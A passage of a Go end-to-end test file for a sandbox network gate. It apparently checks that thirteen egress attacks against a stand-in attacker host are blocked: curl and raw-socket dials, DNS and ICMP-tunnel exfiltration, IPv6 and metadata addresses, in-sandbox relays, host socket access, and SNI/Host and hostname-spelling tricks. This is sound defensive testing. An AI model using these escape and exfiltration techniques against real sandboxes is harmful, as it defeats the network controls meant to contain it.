package e2e

// The attacks of ATTACKS.md lines 1-22, one subtest of TestGate each (see gate_test.go for
// the sandbox, the servers and the leak check every subtest runs under).

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// dropBound is how long an attempt whose traffic the gate drops silently may take: the
// probe's own deadline plus slack. Nothing is answered, so the guest can only time out.
const dropBound = 2500 * time.Millisecond

// 1. A program that ignores proxy variables has no route except through the gate: the only
// route is the default one to the gateway, and a static binary (the probe) dialing out
// directly is decided like everything else.
func (g *gateEnv) attack01(t *testing.T) {
	out := g.sh(t, `echo "proxyvars=$(env | grep -ci _proxy)"; echo routes; cat /proc/net/route; echo ifaces; ls /sys/class/net`)
	if !strings.Contains(out, "proxyvars=0") {
		t.Errorf("the sandbox has proxy variables; the gate must not depend on clients honouring them:\n%s", out)
	}
	// /proc/net/route: the gateway 10.88.0.1 is 0100580A in its little-endian hex.
	var routes []string
	inRoutes := false
	for _, l := range strings.Split(out, "\n") {
		switch {
		case l == "routes":
			inRoutes = true
		case l == "ifaces":
			inRoutes = false
		case inRoutes && !strings.HasPrefix(l, "Iface") && strings.TrimSpace(l) != "":
			routes = append(routes, l)
		}
	}
	for _, r := range routes {
		f := strings.Fields(r)
		if len(f) < 3 || f[0] != "tap0" || (f[2] != "0100580A" && f[2] != "00000000") {
			t.Errorf("a route that does not go through the gateway on tap0: %q", r)
		}
	}
	m := g.mark(t)
	c := g.curls(t,
		[]string{"--noproxy", "*", "http://" + evilIP + "/"},
		[]string{"--noproxy", "*", "-k", "https://" + evilIP + "/"},
	)
	curlDenied(t, c[0])
	if c[0].status != "403" {
		t.Errorf("plain HTTP to the attacker's address: want the gate's 403, got %v", c[0])
	}
	curlDenied(t, c[1])
	p := g.probes(t,
		pr("tcp", "-read", "-timeout", probeDefault, evilIP+":2222"),
		pr("tcp", "-timeout", probeDefault, "-send", `GET / HTTP/1.1\r\nHost: `+evilIP+`\r\nConnection: close\r\n\r\n`, evilIP+":80"),
	)
	refusedPromptly(t, "static binary to the attacker's :2222", p[0])
	if !strings.HasPrefix(p[1].Data, "HTTP/1.1 403") || p[1].took() > promptly {
		t.Errorf("static binary, plain HTTP to the attacker's address: want the gate's 403 at once, got %v", p[1])
	}
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":80"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})
}

// 2. Dialing a hard-coded public address after DNS was refused, curl --resolve, raw and
// packet sockets.
func (g *gateEnv) attack02(t *testing.T) {
	m := g.mark(t)
	c := g.curls(t,
		[]string{"--resolve", "evil.test:80:" + evilIP, "http://evil.test/"},
		[]string{"--resolve", "evil.test:443:" + evilIP, "--cacert", g.ca, "https://evil.test/"},
		[]string{"--resolve", "evil.test:2222:" + evilIP, "http://evil.test:2222/"},
	)
	for _, r := range c {
		curlDenied(t, r)
	}
	if c[0].status != "403" {
		t.Errorf("--resolve to the attacker, plain HTTP: want the gate's 403, got %v", c[0])
	}
	p := g.probes(t,
		pr("tcp", "-timeout", probeDefault, evilIP+":8080"),
		prRoot("raw", evilIP+":9999"),
		prRoot("packet", evilIP+":2222"),
	)
	refusedPromptly(t, "hard-coded address "+evilIP+":8080", p[0])
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":80", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":8080"})
	// Raw and packet sockets: either the guest kernel refuses to make one (gVisor without
	// --net-raw), or what they send arrives at the gate like any packet and is denied there.
	for i, what := range map[int]string{1: "raw IP socket", 2: "packet socket"} {
		r := p[i]
		if !r.OK {
			if !strings.Contains(r.Err, "socket") {
				t.Errorf("%s: failed, but not at creating the socket: %v", what, r)
			}
			t.Logf("%s: the guest kernel refuses it: %s", what, r.Err)
			continue
		}
		t.Logf("%s: the guest sent it (%s); the gate must have denied it", what, r.Data)
		dst := evilIP + ":9999"
		if i == 2 {
			dst = evilIP + ":2222"
		}
		g.denied(t, m, match{Proto: "udp", Dst: dst})
	}
}

// 3. UDP: QUIC, plain UDP to any port, DNS to a public resolver, DNS over TLS. The test
// internet's own DNS server (198.51.100.53) stands in for 8.8.8.8: its query log shows
// whether anything reached it.
func (g *gateEnv) attack03(t *testing.T) {
	m := g.mark(t)
	to := "-timeout=" + dropTimeout
	p := g.probesParallel(t,
		pr("udp", to, evilIP+":9999"),
		pr("udp", to, "-quic", evilIP+":443"),
		pr("udp", to, "-quic", allowedIP+":443"),
		pr("udp", to, allowedIP+":9999"),
		pr("udp", to, "allowed.test:9999"),
		pr("dns", to, upstreamDNS, "leak1.evil.test", "A"),
		pr("dns", to, upstreamDNS, "allowed.test", "A"),
		pr("dns", to, evilIP+":53", "leak2.evil.test", "TXT"),
		pr("dns", to, "-tcp", upstreamDNS, "leak3.evil.test", "A"),
		pr("dns", to, "-tcp", evilIP+":53", "leak4.evil.test", "A"),
		pr("tcp", to, "-send", "dot", evilIP+":853"),
		pr("tls", to, "-sni", "dns.evil.test", evilIP+":853"),
		pr("tls", to, "-sni", "allowed.test", evilIP+":853"),
	)
	what := []string{
		"UDP to the attacker :9999", "QUIC to the attacker :443", "QUIC to an allowed host :443",
		"UDP to an allowed host's address :9999", "UDP to allowed.test:9999",
		"DNS to a public resolver (denied name)", "DNS to a public resolver (allowed name)",
		"DNS TXT to the attacker's resolver", "DNS over TCP to a public resolver", "DNS over TCP to the attacker",
		"DNS over TLS (853) bytes", "DNS over TLS handshake, attacker SNI", "DNS over TLS handshake, allowed SNI",
	}
	for i, r := range p {
		droppedWithin(t, what[i], r, dropBound)
	}
	// Plain UDP (not 53/853) is answered with port unreachable: the guest fails at once.
	for i := range 5 {
		if !strings.Contains(p[i].Err, "refused") {
			t.Logf("%s: failed with %q (a refusal would be faster than a timeout)", what[i], p[i].Err)
		}
	}
	for _, dst := range []string{evilIP + ":9999", evilIP + ":443", allowedIP + ":443", allowedIP + ":9999", upstreamDNS, evilIP + ":53"} {
		g.denied(t, m, match{Proto: "udp", Dst: dst})
	}
	g.denied(t, m, match{Proto: "tcp", Dst: upstreamDNS})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":853"})
	for _, q := range g.net.Queries() {
		if strings.HasPrefix(q, "leak") {
			t.Errorf("LEAK: the public resolver stand-in received %q", q)
		}
	}
}

// 4. ICMP echo to the outside and ICMP tunnelling: the gate never forwards ICMP; it answers
// an echo itself, and only for an allowed destination. The namespace's own ICMP counters show
// that nothing arrived there.
func (g *gateEnv) attack04(t *testing.T) {
	icmpBefore := g.snmpCounter(t, "Icmp", "InMsgs")
	m := g.mark(t)
	to := "-timeout=" + dropTimeout
	p := g.probesParallel(t,
		pr("ping", to, evilIP),
		pr("ping", to, "-size", "1200", "-pattern", "657866696c2d7365637265742d64617461", evilIP), // "exfil-secret-data"
		pr("ping", to, "198.51.100.53"),
		pr("ping", to, metadataIP),
		pr("ping", to, inetHostAddr()),
	)
	for i, what := range []string{"echo to the attacker", "ICMP tunnel payload to the attacker", "echo to an address no rule allows", "echo to the metadata address", "echo to the host's veth address"} {
		droppedWithin(t, what, p[i], dropBound)
	}
	// An allowed destination, looked up first so the gate knows the name.
	ok := g.probes(t, pr("dns", gatewayIP+":53", "allowed.test", "A"), pr("ping", "-timeout", probeDefault, allowedIP))
	if !ok[1].OK {
		t.Errorf("echo to allowed.test's address: want a reply (from the gate), got %v", ok[1])
	}
	if d := g.snmpCounter(t, "Icmp", "InMsgs") - icmpBefore; d != 0 {
		t.Errorf("LEAK: %d ICMP messages reached the test internet", d)
	}
	g.denied(t, m, match{Proto: "icmp", Dst: evilIP})
	g.denied(t, m, match{Proto: "icmp", Dst: metadataIP})
	g.expect(t, m, match{Proto: "icmp", Dst: allowedIP, Verdict: "allow", Name: "allowed.test"})
}

func inetHostAddr() string { return "198.51.100.1" }

// 5. IPv6 of every form: the guest has no IPv6 address, so every dial fails in the guest at
// once; and AAAA answers are empty even where the upstream has records.
func (g *gateEnv) attack05(t *testing.T) {
	out := g.sh(t, `cat /proc/net/if_inet6 2>/dev/null | grep -v ' lo$' | grep . || echo no-ipv6-address`)
	if !strings.Contains(out, "no-ipv6-address") {
		t.Errorf("the guest has an IPv6 address outside lo:\n%s", out)
	}
	to := "-timeout=" + dropTimeout
	targets := []string{
		"[2001:db8::66]:80",                             // global unicast
		"[fe80::1%tap0]:80",                             // link-local
		"[::ffff:" + evilIP + "]:80",                    // IPv4-mapped
		"[64:ff9b::c633:6442]:80",                       // NAT64 of the attacker
		"[2002:c633:6442::1]:80",                        // 6to4 of the attacker
		"[2001:0:c633:6442::1]:80",                      // Teredo
		"[fd00:ec2::254]:80",                            // AWS metadata over IPv6
		"[::ffff:169.254.169.254]:80",                   // metadata, mapped
		"[::ffff:127.0.0.1]:" + fmt.Sprint(g.host.port), // host loopback, mapped
	}
	var calls []call
	for _, a := range targets {
		calls = append(calls, pr("tcp", to, "-6", "-send", `GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n`, a))
	}
	calls = append(calls,
		pr("udp", to, "-6", "[2001:db8::53]:53"),
		pr("udp", to, "-6", "[ff02::1%tap0]:9999"),
		pr("dns", gatewayIP+":53", "allowed.test", "AAAA"),
		pr("dns", gatewayIP+":53", "evil.test", "AAAA"),
	)
	p := g.probes(t, calls...)
	for i, a := range targets {
		r := p[i]
		if r.OK {
			// Go may send an IPv4-mapped destination as IPv4; then it met the gate and must
			// have been denied there.
			if strings.HasPrefix(a, "[::ffff:") && (r.Data == "" || strings.HasPrefix(r.Data, "HTTP/1.1 403")) {
				continue
			}
			t.Errorf("IPv6 %s: connected: %v", a, r)
			continue
		}
		refusedPromptly(t, "IPv6 "+a, r)
	}
	droppedWithin(t, "UDP over IPv6", p[len(targets)], dropBound)
	droppedWithin(t, "UDP to IPv6 multicast", p[len(targets)+1], dropBound)
	for _, r := range p[len(targets)+2:] {
		if !r.OK || !strings.HasPrefix(r.Data, "NOERROR n=0") {
			t.Errorf("AAAA: want an empty NOERROR answer, got %v", r)
		}
	}
}

// 6. Plain HTTP to a denied host while HTTPS is filtered, and the reverse: each scheme is
// decided on its own, and a denied plain-HTTP request gets a 403 that names the host and the
// exact command that would allow it.
func (g *gateEnv) attack06(t *testing.T) {
	m := g.mark(t)
	c := g.curls(t,
		[]string{"http://evil.test/"},
		[]string{"--cacert", g.ca, "https://evil.test/"},
		[]string{"--cacert", g.ca, "https://httpsonly.test/"},
		[]string{"http://httpsonly.test/"},
	)
	curlDenied(t, c[0])
	want := "moat network allow " + g.name + " evil.test"
	if c[0].status != "403" || !strings.Contains(c[0].body, "evil.test") || !strings.Contains(c[0].body, want) {
		t.Errorf("plain HTTP to a denied host: want a 403 whose body names evil.test and %q, got %v", want, c[0])
	}
	if h := headerValue(c[0].headers, "X-Moat-Denied"); !strings.Contains(h, "evil.test") {
		t.Errorf("X-Moat-Denied: want it to name evil.test, got %q\n%s", h, c[0].headers)
	}
	curlDenied(t, c[1])
	if c[1].exit == 0 {
		t.Errorf("HTTPS to a denied host succeeded: %v", c[1])
	}
	curlReached(t, c[2], "inet https "+httpsOnlyIP+":443 httpsonly.test/")
	curlDenied(t, c[3])
	if want := "moat network allow " + g.name + " httpsonly.test"; c[3].status != "403" || !strings.Contains(c[3].body, want) {
		t.Errorf("plain HTTP to a host allowed on :443 only: want a 403 naming %q, got %v", want, c[3])
	}
	g.denied(t, m, match{Proto: "tcp", Dst: "*:80", Name: "evil.test", NameFrom: "host"})
	g.denied(t, m, match{Proto: "tcp", Dst: "*:443", Name: "evil.test", NameFrom: "sni"})
	g.denied(t, m, match{Proto: "tcp", Dst: "*:80", Name: "httpsonly.test"})
	g.expect(t, m, match{Proto: "tcp", Dst: "*:443", Name: "httpsonly.test", Verdict: "allow"})
}

func headerValue(headers, name string) string {
	for _, l := range strings.Split(headers, "\n") {
		k, v, ok := strings.Cut(l, ":")
		if ok && strings.EqualFold(strings.TrimSpace(k), name) {
			return strings.TrimSpace(v)
		}
	}
	return ""
}

// 7. A relay inside the sandbox (a CONNECT proxy an agent starts) whose traffic the policy
// never sees: its own connections leave through the gate like any other, and a CONNECT sent
// to the gate itself is not relayed.
func (g *gateEnv) attack07(t *testing.T) {
	m := g.mark(t)
	allowedReqs := len(g.srv["allowed:80"].Requests())
	script := shQuote(g.probe, "proxy", "-timeout", "8s", "127.0.0.1:3128") + ` > /tmp/moat-proxy.json 2>&1 &
sleep 0.3
`
	run := func(args ...string) string {
		full := append([]string{"curl", "-sS", "--max-time", curlMaxTimeS, "-o", "/dev/null", "-w", "%{http_code} %{time_total}"}, args...)
		return shQuote(full...) + ` 2>&1; echo " exit=$?"` + "\n"
	}
	script += run("-p", "-x", "http://127.0.0.1:3128", "http://evil.test/")
	script += run("-x", "http://127.0.0.1:3128", "--cacert", g.ca, "https://evil.test/")
	script += run("-p", "-x", "http://127.0.0.1:3128", "http://"+evilIP+":2222/")
	script += run("-x", "http://127.0.0.1:3128", "--cacert", g.ca, "https://allowed.test/")
	script += "kill %1 2>/dev/null; wait; cat /tmp/moat-proxy.json; true\n"
	out := g.sh(t, script)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	var results []string
	for _, l := range lines {
		if strings.Contains(l, "exit=") {
			results = append(results, l)
		}
	}
	if len(results) != 4 {
		t.Fatalf("relay script output not understood:\n%s", out)
	}
	for i, what := range []string{"relay to http://evil.test", "relay to https://evil.test", "relay to the attacker's :2222"} {
		r := results[i]
		if !strings.HasPrefix(r, "403 ") && strings.HasSuffix(r, "exit=0") {
			t.Errorf("%s: got through: %q", what, r)
		}
	}
	// The control: the relay itself works, for what the policy allows.
	if !strings.HasPrefix(results[3], "200 ") {
		t.Errorf("relay to https://allowed.test (allowed): want 200, got %q; the relay does not work, so the denials above prove nothing", results[3])
	}
	g.denied(t, m, match{Proto: "tcp", Dst: "*:80", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: "*:443", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})

	// CONNECT sent to the gate itself, on an allowed host's port 80 and on the attacker's.
	m = g.mark(t)
	connect := `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n`
	p := g.probes(t,
		pr("tcp", "-timeout", probeDefault, "-send", connect, allowedIP+":80"),
		pr("tcp", "-timeout", probeDefault, "-send", `CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n`, evilIP+":80"),
	)
	for i, r := range p {
		if strings.Contains(r.Data, " 200") || r.took() > promptly {
			t.Errorf("CONNECT #%d to the gate: want a prompt refusal, got %v", i, r)
		}
	}
	for _, rq := range g.srv["allowed:80"].Requests()[allowedReqs:] {
		if rq.Method == "CONNECT" {
			t.Errorf("a CONNECT reached the allowed host's server: %+v", rq)
		}
	}
	g.denied(t, m, match{Proto: "tcp", Dst: allowedIP + ":80", Reason: "CONNECT"})
}

// 8. The daemon's control socket, the host's container and desktop sockets, and any unix
// socket of the host, abstract or in the workspace itself.
func (g *gateEnv) attack08(t *testing.T) {
	abstract := fmt.Sprintf("@moat-e2e-gate-%d", os.Getpid())
	ab, _ := listenHost(t, "unix", abstract)
	inWS := filepath.Join(g.dir, "host.sock")
	ws, _ := listenHost(t, "unix", inWS)
	os.Chmod(inWS, 0o777)
	control := filepath.Join(g.state, "control.sock")
	if !fileExists(control) {
		t.Fatalf("the daemon's control socket %s does not exist on the host; the test would prove nothing", control)
	}
	paths := []string{
		abstract, inWS, control,
		"/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
		"/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "@/tmp/.X11-unix/X0",
		"/run/user/0/bus", "/run/systemd/private",
	}
	var calls []call
	for _, p := range paths {
		calls = append(calls, prRoot("unix", "-timeout", "1s", p))
	}
	p := g.probes(t, calls...)
	for i, r := range p {
		refusedPromptly(t, "unix socket "+paths[i], r)
	}
	if ab.accepts.Load() != 0 || ws.accepts.Load() != 0 {
		t.Errorf("LEAK: the host's unix sockets accepted connections from the guest: abstract %d, in the workspace %d", ab.accepts.Load(), ws.accepts.Load())
	}
	out := g.sh(t, shQuote("sh", "-c", `for p in "$0" "$1" "$2"; do if [ -e "$p" ]; then echo "VISIBLE $p"; fi; done; true`, control, g.state, moatHome))
	if strings.Contains(out, "VISIBLE") {
		t.Errorf("the daemon's state is visible in the guest:\n%s", out)
	}
}

// 9. An allowed SNI sent to the attacker's address: the gate dials what it resolves for the
// SNI, never the address the guest chose. The attacker's certificate covers allowed.test too,
// so only its counters (zero) and the body (naming the allowed server) tell where it went.
func (g *gateEnv) attack09(t *testing.T) {
	m := g.mark(t)
	snis := len(g.srv["allowed:443"].SNIs())
	c := g.curls(t, []string{"--resolve", "allowed.test:443:" + evilIP, "--cacert", g.ca, "https://allowed.test/"})
	curlReached(t, c[0], "inet https "+allowedIP+":443 allowed.test/")
	out := g.sh(t, `printf 'GET /s_client HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n' | timeout 8 openssl s_client -quiet -connect `+evilIP+`:443 -servername allowed.test -CAfile `+shQuote(g.ca)+` -verify_return_error 2>&1; echo " exit=$?"`)
	if !strings.Contains(out, "inet https "+allowedIP+":443 allowed.test/s_client") {
		t.Errorf("openssl s_client -connect %s:443 -servername allowed.test: want the allowed server's answer, got:\n%s", evilIP, out)
	}
	if got := len(g.srv["allowed:443"].SNIs()) - snis; got != 2 {
		t.Errorf("the allowed server saw %d new ClientHellos, want 2", got)
	}
	if a, ok := g.expect(t, m, match{Proto: "tcp", Dst: evilIP + ":443", Name: "allowed.test", NameFrom: "sni", Verdict: "allow"}); ok && a.Upstream != allowedIP+":443" {
		t.Errorf("the gate dialed %q for an allowed SNI sent to %s, want %s:443", a.Upstream, evilIP, allowedIP)
	}
}

// 10. /etc/hosts, or a resolver run inside the guest, pointing an allowed name at the
// attacker: HTTP and TLS go where the host resolves the name; other ports are decided by the
// address, which no name the gate gave out is bound to.
func (g *gateEnv) attack10(t *testing.T) {
	m := g.mark(t)
	curl := func(args ...string) string {
		full := append([]string{"curl", "-sS", "--max-time", curlMaxTimeS}, args...)
		return shQuote(full...) + ` 2>&1; echo " exit=$?"` + "\n"
	}
	probe := func(a string) string {
		return shQuote(g.probe, "tcp", "-read", "-timeout", "2s", a) + "\n"
	}
	script := `set -u
restore() { sudo cp /tmp/moat-hosts.orig /etc/hosts; sudo cp /tmp/moat-resolv.orig /etc/resolv.conf; }
sudo cp /etc/hosts /tmp/moat-hosts.orig && sudo cp /etc/resolv.conf /tmp/moat-resolv.orig || exit 1
trap restore EXIT
echo "` + evilIP + ` allowed.test port.test" | sudo tee -a /etc/hosts >/dev/null
echo "== hosts"
` + curl("http://allowed.test/hosts") + curl("--cacert", g.ca, "https://allowed.test/hosts") + probe("port.test:2222") + `
sudo cp /tmp/moat-hosts.orig /etc/hosts
sudo ` + shQuote(g.probe, "servedns", "-timeout", "6s", "127.0.0.1:53", evilIP) + ` >/dev/null 2>&1 &
sleep 0.3
echo "nameserver 127.0.0.1" | sudo tee /etc/resolv.conf >/dev/null
echo "== resolver"
` + curl("http://allowed.test/resolver") + curl("--cacert", g.ca, "https://allowed.test/resolver") + probe("port.test:2222") + `
restore; trap - EXIT
sudo kill %1 2>/dev/null; wait
echo "== restored"; cat /etc/resolv.conf
`
	out := g.sh(t, script)
	hosts, rest, _ := strings.Cut(out, "== resolver")
	resolver, restored, _ := strings.Cut(rest, "== restored")
	for name, part := range map[string]string{"/etc/hosts": hosts, "guest-run resolver": resolver} {
		path := map[string]string{"/etc/hosts": "hosts", "guest-run resolver": "resolver"}[name]
		if !strings.Contains(part, "inet http "+allowedIP+":80 allowed.test/"+path) {
			t.Errorf("%s pointing allowed.test at the attacker, plain HTTP: want the allowed server's answer, got:\n%s", name, part)
		}
		if !strings.Contains(part, "inet https "+allowedIP+":443 allowed.test/"+path) {
			t.Errorf("%s pointing allowed.test at the attacker, HTTPS: want the allowed server's answer, got:\n%s", name, part)
		}
		if strings.Contains(part, "EVIL") || strings.Contains(part, `"ok":true`) {
			t.Errorf("%s pointing port.test at the attacker: port.test:2222 connected:\n%s", name, part)
		}
	}
	if !strings.Contains(restored, "nameserver "+gatewayIP) {
		t.Fatalf("the guest's resolv.conf was not restored; later subtests would be wrong:\n%s", restored)
	}
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})
}

// 11. SNI of one name and Host of another, without TLS termination: the connection goes to
// the SNI's host, so a Host naming the attacker reaches at most the allowed server. In plain
// HTTP, the Host decides, whatever address was dialed, and a second request on the same
// connection cannot change host.
func (g *gateEnv) attack11(t *testing.T) {
	m := g.mark(t)
	allowedReqs := len(g.srv["allowed:80"].Requests())
	p := g.probes(t,
		pr("tls", "-timeout", probeDefault, "-sni", "allowed.test", "-host", "evil.test", "-ca", g.ca, allowedIP+":443"),
		pr("tcp", "-timeout", probeDefault, "-send", `GET /fronted HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`, allowedIP+":80"),
		pr("tcp", "-timeout", probeDefault, "-send", `GET /one HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.test\r\n\r\n`, allowedIP+":80"),
		pr("tcp", "-timeout", probeDefault, "-send", `GET /front HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n`, evilIP+":80"),
	)
	if !p[0].OK || !strings.Contains(p[0].Data, "inet https "+allowedIP+":443 evil.test/") {
		t.Errorf("SNI allowed.test, Host evil.test: want the request at the allowed server (the attacker unreached), got %v", p[0])
	}
	if !strings.HasPrefix(p[1].Data, "HTTP/1.1 403") {
		t.Errorf("plain HTTP with Host evil.test to allowed.test's address: want the gate's 403, got %v", p[1])
	}
	if !strings.Contains(p[2].Data, "allowed.test/one") {
		t.Errorf("pipelined requests: want the first (allowed.test) answered, got %v", p[2])
	}
	if !strings.Contains(p[3].Data, "inet http "+allowedIP+":80 allowed.test/front") {
		t.Errorf("Host allowed.test sent to the attacker's address: want the allowed server's answer, got %v", p[3])
	}
	for _, rq := range g.srv["allowed:80"].Requests()[allowedReqs:] {
		if !strings.EqualFold(strings.TrimSuffix(rq.Host, ":80"), "allowed.test") {
			t.Errorf("the allowed server got a request for another host over a connection decided as allowed.test: %+v", rq)
		}
	}
	g.denied(t, m, match{Proto: "tcp", Dst: allowedIP + ":80", Name: "evil.test", NameFrom: "host"})
	if a, ok := g.expect(t, m, match{Proto: "tcp", Dst: evilIP + ":80", Name: "allowed.test", Verdict: "allow"}); ok && a.Upstream != allowedIP+":80" {
		t.Errorf("Host allowed.test to the attacker's address: the gate dialed %q, want %s:80", a.Upstream, allowedIP)
	}
}

// 12. Encrypted ClientHello, a missing SNI, and a ClientHello split across many TCP segments
// (one byte each): the split one to an allowed name must work, the others are refused.
func (g *gateEnv) attack12(t *testing.T) {
	m := g.mark(t)
	snis := len(g.srv["allowed:443"].SNIs())
	to := "-timeout=" + probeDefault
	p := g.probes(t,
		pr("tls", "-timeout", "20s", "-split", "-sni", "allowed.test", "-ca", g.ca, allowedIP+":443"),
		pr("tls", to, "-split", "-sni", "evil.test", "-ca", g.ca, evilIP+":443"),
		pr("tls", to, "-ech", "-sni", "allowed.test", "-inner", "evil.test", allowedIP+":443"),
		pr("tls", to, "-ech", "-sni", "allowed.test", "-inner", "evil.test", evilIP+":443"),
		pr("tls", to, "-nosni", evilIP+":443"),
		pr("tls", to, "-nosni", allowedIP+":443"),
		pr("tls", to, "-sni", allowedIP, "-ca", g.ca, allowedIP+":443"), // an IP as server name: Go sends no SNI
	)
	if !p[0].OK || !strings.Contains(p[0].Data, "inet https "+allowedIP+":443 allowed.test/") {
		t.Errorf("ClientHello split into 1-byte segments, allowed SNI: want the page, got %v", p[0])
	}
	for i, what := range []string{"", "split ClientHello, denied SNI", "ECH to the allowed host's address", "ECH to the attacker", "no SNI to the attacker", "no SNI to an allowed host's address", "IP address as server name"} {
		if i == 0 {
			continue
		}
		refusedPromptly(t, what, p[i])
	}
	if got := len(g.srv["allowed:443"].SNIs()) - snis; got != 1 {
		t.Errorf("the allowed server saw %d new ClientHellos, want 1 (the split one): ECH or SNI-less hellos got through", got)
	}
	g.expect(t, m, match{Proto: "tcp", Dst: allowedIP + ":443", Name: "allowed.test", Verdict: "allow"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: allowedIP + ":443", Reason: "encrypted"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443", Reason: "encrypted"})
	g.denied(t, m, match{Proto: "tcp", Dst: allowedIP + ":443", Reason: "sni"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443", Reason: "sni"})
}

// 13. Odd spellings: case, trailing dot, IDN and punycode, wildcard depth, apex versus
// subdomain, name:port, userinfo in URLs, percent-encoding, and Host headers that try to be
// read two ways.
func (g *gateEnv) attack13(t *testing.T) {
	m := g.mark(t)
	type want int
	const (
		allow want = iota
		deny
	)
	cases := []struct {
		args []string
		want want
		body string // for allow: the server and Host it must reach
	}{
		{[]string{"http://ALLOWED.TEST/"}, allow, "allowed.test/"},
		{[]string{"http://allowed.test./"}, allow, "allowed.test"},
		{[]string{"--cacert", g.ca, "https://allowed.test./"}, allow, "inet https " + allowedIP},
		{[]string{"--cacert", g.ca, "https://ALLOWED.TEST/"}, allow, "inet https " + allowedIP},
		{[]string{"http://xn--bcher-kva.test/"}, allow, "xn--bcher-kva.test/"},
		{[]string{"http://bücher.test/"}, allow, "xn--bcher-kva.test/"},
		{[]string{"http://аllowed.test/"}, deny, ""}, // Cyrillic а: a homoglyph, another name
		{[]string{"http://a.wild.test/"}, allow, "a.wild.test/"},
		{[]string{"http://a.b.c.wild.test/"}, allow, "a.b.c.wild.test/"},
		{[]string{"http://A.WILD.TEST./"}, allow, "inet http " + allowedIP},
		{[]string{"http://wild.test/"}, deny, ""},         // apex of a wildcard
		{[]string{"http://blocked.wild.test/"}, deny, ""}, // block beats the wildcard
		{[]string{"http://xwild.test/"}, deny, ""},        // suffix without the dot
		{[]string{"http://allowed.test.evil.test/"}, deny, ""},
		{[]string{"http://port.test/"}, deny, ""}, // allowed on :2222 only
		{[]string{"http://allowed.test@evil.test/"}, deny, ""},
		{[]string{"http://evil.test@allowed.test/"}, allow, "allowed.test/"},
		{[]string{"http://evil%2Etest/"}, deny, ""},
		{[]string{"http://EVIL.TEST./"}, deny, ""},
	}
	var argss [][]string
	for _, c := range cases {
		argss = append(argss, c.args)
	}
	res := g.curls(t, argss...)
	for i, c := range cases {
		if c.want == allow {
			curlReached(t, res[i], c.body)
		} else {
			curlDenied(t, res[i])
		}
	}
	evilHosts := []string{
		"allowed.test@evil.test", "evil.test", "EVIL.TEST", "evil.test.", "evil.test:80",
		"allowed.test.evil.test", "allowed%2etest", "evil%2etest", "allowed.test evil.test",
		"allowed.test\\tevil.test", ".evil.test", "evil.test..",
	}
	var calls []call
	for _, h := range evilHosts {
		calls = append(calls, pr("tcp", "-timeout", probeDefault, "-send", `GET / HTTP/1.1\r\nHost: `+h+`\r\nConnection: close\r\n\r\n`, evilIP+":80"))
	}
	calls = append(calls,
		pr("tcp", "-timeout", probeDefault, "-send", `GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n`, evilIP+":80"),
		pr("tcp", "-timeout", probeDefault, "-send", `GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n`, evilIP+":80"),
		pr("tls", "-timeout", probeDefault, "-sni", "ALLOWED.TEST", "-ca", g.ca, evilIP+":443"),
		pr("tls", "-timeout", probeDefault, "-sni", "EVIL.TEST", "-ca", g.ca, evilIP+":443"),
		pr("tls", "-timeout", probeDefault, "-sni", "allowed.test.evil.test", "-ca", g.ca, evilIP+":443"),
		pr("tcp", "-read", "-timeout", "2s", "port.test:2222"),
		pr("tcp", "-read", "-timeout", "2s", "PORT.TEST.:2222"),
		pr("tcp", "-timeout", probeDefault, "port.test:2223"),
	)
	p := g.probes(t, calls...)
	for i, h := range evilHosts {
		r := p[i]
		if strings.Contains(r.Data, "HTTP/1.1 200") || r.took() > promptly {
			t.Errorf("Host %q to the attacker's address: want a prompt refusal, got %v", h, r)
		}
	}
	k := len(evilHosts)
	if strings.Contains(p[k].Data, "evil.test") && strings.Contains(p[k].Data, " 200 ") {
		t.Errorf("two Host headers: the evil one was served: %v", p[k])
	}
	if strings.Contains(p[k+1].Data, "EVIL") {
		t.Errorf("absolute-form request for evil.test with Host allowed.test reached the attacker: %v", p[k+1])
	}
	if !p[k+2].OK || !strings.Contains(p[k+2].Data, "inet https "+allowedIP) {
		t.Errorf("SNI ALLOWED.TEST to the attacker's address: want the allowed server, got %v", p[k+2])
	}
	refusedPromptly(t, "SNI EVIL.TEST", p[k+3])
	refusedPromptly(t, "SNI allowed.test.evil.test", p[k+4])
	for i, what := range []string{"port.test:2222", "PORT.TEST.:2222"} {
		if r := p[k+5+i]; !r.OK || !strings.HasPrefix(r.Data, portBanner) {
			t.Errorf("%s (rule port.test:2222): want its banner, got %v", what, r)
		}
	}
	refusedPromptly(t, "port.test:2223 (rule port.test:2222)", p[k+7])
	g.denied(t, m, match{Proto: "tcp", Name: "wild.test"})
	g.denied(t, m, match{Proto: "tcp", Name: "blocked.wild.test"})
	g.denied(t, m, match{Proto: "tcp", Name: "port.test", Dst: "*:2223"})
